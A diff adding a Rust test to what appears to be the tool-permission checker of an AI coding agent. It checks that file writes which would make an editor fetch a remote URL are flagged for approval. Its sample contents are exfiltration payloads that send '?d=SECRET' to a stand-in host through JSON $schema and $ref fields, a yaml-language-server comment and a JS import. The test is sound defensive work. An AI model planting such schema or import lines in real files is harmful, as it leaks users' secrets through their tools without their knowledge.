@@ -53,3 +53,23 @@ fn the_network_is_asked_for_even_where_the_program_is_allowed() {
     let told = ground.tool("execute_command", json!({ "command": "ls", "network": true }));
     assert_eq!(told.verdict, "ask network", "{told:?}");
 }
+
+#[test]
+fn a_write_that_makes_an_editor_fetch_something_is_asked_about_where_writing_is_free() {
+    let ground = Ground::writing();
+    for (path, content) in [
+        ("a.json", r#"{"$schema":"http://127.0.0.1:1/?d=SECRET"}"#),
+        ("b.json", r#"{"\u0024schema":"http:\/\/127.0.0.1:1\/?d=SECRET"}"#),
+        ("c.yaml", "# yaml-language-server: $schema=http://127.0.0.1:1/?d=SECRET\n"),
+        ("d.json", r#"{"a":{"$ref":"http://127.0.0.1:1/?d=SECRET"}}"#),
+        ("e.js", "import 'http://127.0.0.1:1/?d=SECRET';\n"),
+    ] {
+        let told = ground.tool("write_to_file", json!({ "path": path, "content": content }));
+        assert_eq!(told.verdict, "ask remote", "{path}: {told:?}");
+        assert!(told.errors.contains("fetch http://127.0.0.1:1/?d=SECRET"), "{path}: {told:?}");
+    }
+    let known = r#"{"$schema":"https://json.schemastore.org/package.json","a":1}"#;
+    ground.write("ws/known.json", known);
+    let change = json!({ "path": "known.json", "search": "1", "replace": "2" });
+    assert_eq!(ground.tool("search_and_replace", change).verdict, "allow");
+}
